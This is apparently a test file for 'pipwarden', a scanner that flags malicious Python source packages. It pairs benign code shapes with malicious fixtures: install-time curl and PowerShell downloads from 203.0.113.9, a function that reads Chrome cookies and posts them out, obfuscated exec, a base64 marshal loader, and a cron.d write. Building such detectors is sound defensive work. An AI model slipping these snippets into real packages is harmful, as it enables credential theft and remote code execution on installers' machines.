"""Calibration against popular projects outside the dev set (bench/detect/heldout.py): shapes that
legitimate packages have are not blocked, while the malicious forms next to them still are."""

from __future__ import annotations

from pathlib import Path

from pipwarden import analyze
from pipwarden.archive import read_archive
from pipwarden.models import Artifact, Finding, PackageRef, Severity
from tests.builders import make_sdist

BUILD_RUST = '''
import subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext


class BuildRust(build_ext):
    def run(self):
        subprocess.run({command}, check=True{shell})
        super().run()


setup(name="demo", version="1.0", cmdclass={{"build_ext": BuildRust}})
'''

FUNC_LOAD = '''
import codecs
import marshal
import types


def func_load(code, globs=None):
    raw = codecs.decode(code.encode("ascii"), "base64")
    return types.FunctionType(marshal.loads(raw), globs or globals())
{call}
'''


def _scan(tmp: Path, setup_py: str | None = None, files: dict[str, str] | None = None) -> list[Finding]:
    tmp.mkdir(parents=True, exist_ok=True)
    sdist = make_sdist(tmp, "demo", "1.0", files or {"demo/__init__.py": ""},
                       setup_py=setup_py or "from setuptools import setup\nsetup(name='demo', version='1.0')\n")
    _, findings = analyze.analyze_archive(read_archive(sdist), Artifact(sdist.name, path=sdist),
                                          PackageRef("demo", path=sdist))
    return findings


def _worst(findings: list[Finding], check_id: str) -> Severity | None:
    return max((f.severity for f in findings if f.id == check_id), default=None)


def test_build_tool_fetching_sources_is_a_warning_not_a_block(tmp_path: Path) -> None:
    argv = '["cargo", "install", "--git", "https://example.org/tools/dedup", "dedup"]'
    assert _worst(_scan(tmp_path / "a", BUILD_RUST.format(command=argv, shell="")), "PW101") == Severity.MEDIUM
    # The same URL through a shell pipeline, or fetched by something that is not a build tool, stays high.
    chained = '"git clone https://example.org/x && python x/run.py"'
    assert _worst(_scan(tmp_path / "b", BUILD_RUST.format(command=chained, shell=", shell=True")),
                  "PW101") == Severity.HIGH
    fetch = '["wget", "https://example.org/x"]'
    assert _worst(_scan(tmp_path / "c", BUILD_RUST.format(command=fetch, shell="")), "PW101") == Severity.HIGH


def test_deserializer_in_a_function_is_a_warning_but_a_literal_payload_is_critical(tmp_path: Path) -> None:
    quiet = _scan(tmp_path / "a", files={"demo/__init__.py": "", "demo/serialize.py": FUNC_LOAD.format(call="")})
    assert _worst(quiet, "PW103") == Severity.MEDIUM
    # Called at import time with a literal blob: the decoded code runs on import.
    loud = _scan(tmp_path / "b", files={"demo/__init__.py": FUNC_LOAD.format(call="func_load('YWJj')")})
    assert _worst(loud, "PW103") == Severity.CRITICAL


def test_naming_pyarmor_markers_is_not_being_protected(tmp_path: Path) -> None:
    detector = ('_MARKERS = ("__armor_enter__", "__armor_exit__")\n'
                '_RUNTIMES = ("pytransform", "pyarmor_runtime")\n')
    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": detector}), "PW112") is None
    stub = ("from pyarmor_runtime_000000 import __pyarmor__\n"
            "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n")
    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": stub}), "PW112") == Severity.HIGH


PUBLISH = '''
import os
import sys
from setuptools import setup

command = sys.argv[-1]
if command == "publish":
    os.system("twine upload dist/*")
    sys.exit()
if "{word}" in sys.argv:
    os.system("curl -s http://203.0.113.9/x -o /tmp/x")
setup(name="demo", version="1.0")
'''


def test_setup_py_branches_pip_never_takes_are_not_install_time(tmp_path: Path) -> None:
    # "publish" is a maintainer's shortcut; the second branch is still judged when pip can take it.
    found = _scan(tmp_path / "a", PUBLISH.format(word="install"))
    lines = {f.line for f in found if f.id == "PW101" and f.severity >= Severity.MEDIUM}
    assert lines == {11}
    found = _scan(tmp_path / "b", PUBLISH.format(word="release"))
    assert not [f for f in found if f.id == "PW101" and f.severity >= Severity.MEDIUM]


def test_custom_setup_command_is_not_install_time(tmp_path: Path) -> None:
    setup_py = '''
import subprocess
from distutils.cmd import Command
from setuptools import setup


class Watch(Command):
    def run(self):
        subprocess.run(["node_modules/.bin/webpack-dev-server", "--open"])


setup(name="demo", version="1.0", cmdclass={"%s": Watch})
'''
    assert _worst(_scan(tmp_path / "a", setup_py % "watch"), "PW101") is None
    registered = _worst(_scan(tmp_path / "b", setup_py % "install"), "PW101")  # the same class run by pip install
    assert registered is not None and registered >= Severity.MEDIUM


def test_builtin_lookup_with_a_default_is_compat_code(tmp_path: Path) -> None:
    compat = ("def extend(name):\n    base = getattr(__builtins__, name, OSError)\n    return type(name, (base,), {})\n"
              "extend('PermissionError')\n")
    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": compat}), "PW111") is None
    hidden = "getattr(__builtins__, 'ex' + 'ec')('print(1)')\n"
    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": hidden}), "PW111") == Severity.HIGH


def test_powershell_invoke_expression_of_a_local_expression_is_not_a_dropper(tmp_path: Path) -> None:
    body = ("import subprocess\n\ndef sid():\n    return subprocess.run(['powershell', '-Command', "
            "\"Invoke-Expression '[Security.Principal.WindowsIdentity]::GetCurrent().user'\"])\n")
    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": body}), "PW121") is None
    fetch = body.replace("[Security.Principal.WindowsIdentity]::GetCurrent().user",
                         "(New-Object Net.WebClient).DownloadString(\\'http://203.0.113.9/a\\')")
    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": fetch}), "PW121") == Severity.HIGH


def test_credential_read_and_network_in_different_functions_is_a_warning(tmp_path: Path) -> None:
    apart = ("import os, requests\n\ndef cookies():\n    return open(os.path.expanduser("
             "'~/.config/google-chrome/Default/Cookies'), 'rb').read()\n\n"
             "def download(url):\n    return requests.get(url).content\n")
    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": apart}), "PW131") == Severity.MEDIUM
    together = ("import os, requests\n\ndef steal():\n    data = open(os.path.expanduser("
                "'~/.config/google-chrome/Default/Cookies'), 'rb').read()\n"
                "    requests.post('https://203.0.113.9/c', data=data)\n")
    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": together}), "PW131") == Severity.HIGH


LINT_SCRIPT = "import subprocess\nsubprocess.run(['flake8', '.'])\n"


def test_a_script_no_import_can_name_is_dormant_unless_the_build_installs_it(tmp_path: Path) -> None:
    # lint-code.py at the root of an sdist: nothing imports it and no build config installs it.
    quiet = _scan(tmp_path / "a", files={"demo/__init__.py": "", "lint-code.py": LINT_SCRIPT})
    assert not [f for f in quiet if f.id.startswith("PW1") and f.severity >= Severity.MEDIUM]
    # The same hyphenated folder named as a package in setup.py is installed, and importlib can load it.
    setup_py = "from setuptools import setup\nsetup(name='demo', version='1.0', packages=['my-tools'])\n"
    loud = _scan(tmp_path / "b", setup_py, files={"my-tools/__init__.py": "", "my-tools/lint-code.py": LINT_SCRIPT})
    assert [f for f in loud if f.id == "PW110" and f.severity >= Severity.MEDIUM]


def test_member_memo_does_not_share_setup_findings_between_archives(tmp_path: Path) -> None:
    """The same setup.py in two sdists is judged with what each ships: its finding about the
    script it runs must not be carried over from the other archive by the member memo."""
    samples = Path(__file__).parent / "samples" / "PW119" / "malicious"
    setup_py = (samples / "setup.py.txt").read_text()
    evil = (samples / "demo" / "report.py.txt").read_text()
    tame = "def main():\n    print('report')\n\n\nif __name__ == '__main__':\n    main()\n"
    memo = analyze.MemberMemo()

    def scan(folder: str, report: str) -> set[str]:
        (tmp_path / folder).mkdir()
        sdist = make_sdist(tmp_path / folder, "demo", "1.0", {"demo/__init__.py": "", "demo/report.py": report},
                           setup_py=setup_py)
        _, found = analyze.analyze_archive(read_archive(sdist), Artifact(sdist.name, path=sdist),
                                           PackageRef("demo", path=sdist), memo=memo)
        return {f.id for f in found if f.severity >= Severity.MEDIUM}

    assert "PW119" in scan("evil", evil)
    assert "PW119" not in scan("tame", tame)


def test_setup_writing_into_a_folder_named_by_a_variable_is_not_outside(tmp_path: Path) -> None:
    setup_py = ("import os\nfrom setuptools import setup\nPACKAGE = 're2'\nos.makedirs(PACKAGE)\n"
                "with open(f'{PACKAGE}/__init__.py', 'x') as fh:\n    fh.write('')\n"
                "setup(name='demo', version='1.0')\n")
    assert _worst(_scan(tmp_path / "a", setup_py), "PW105") is None
    planted = setup_py.replace("f'{PACKAGE}/__init__.py'", "f'/etc/cron.d/{PACKAGE}'")
    assert _worst(_scan(tmp_path / "b", planted), "PW105") == Severity.HIGH


def test_builtins_whitelist_over_constant_names_is_not_hiding(tmp_path: Path) -> None:
    safe = ('_NAMES = frozenset({"len", "min", "max", "sorted"})\n'
            "SAFE = {n: getattr(__builtins__, n) for n in _NAMES}\n")
    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": safe}), "PW111") is None
    unsafe = safe.replace('"sorted"', '"exec"') + "SAFE['exec']('print(1)')\n"
    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": unsafe}), "PW111") == Severity.HIGH


def test_webhook_in_documentation_is_an_example(tmp_path: Path) -> None:
    hook = "https://hooks.slack.com/services/T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ"
    documented = f'"""Slack notifications.\n\nUse a webhook such as {hook}\n"""\nimport requests\n\n' \
                 "def notify(url, text):\n    requests.post(url, json={'text': text})\n"
    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": documented}), "PW132") is None
    hard_coded = (f"import requests\n\nHOOK = '{hook}'\n\n"
                  "def notify(text):\n    requests.post(HOOK, json={'text': text})\n")
    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": hard_coded}), "PW132") == Severity.HIGH


INSTALLER = '''
import subprocess
import requests


def install_toolchain():
    data = requests.get("{url}").content
    with open("setup-tool.exe", "wb") as fh:
        fh.write(data)
    subprocess.run(["setup-tool.exe", "/quiet"])
'''


def test_installer_fetched_over_https_on_request_is_a_warning(tmp_path: Path) -> None:
    tls = INSTALLER.format(url="https://downloads.example.org/tools/setup-tool.exe")
    def worst(folder: str, source: str) -> Severity | None:
        return _worst(_scan(tmp_path / folder, files={"demo/__init__.py": "", "demo/tool.py": source}), "PW118")

    assert worst("a", tls) == Severity.MEDIUM
    assert worst("b", INSTALLER.format(url="http://203.0.113.9:8080/setup-tool.exe")) == Severity.HIGH
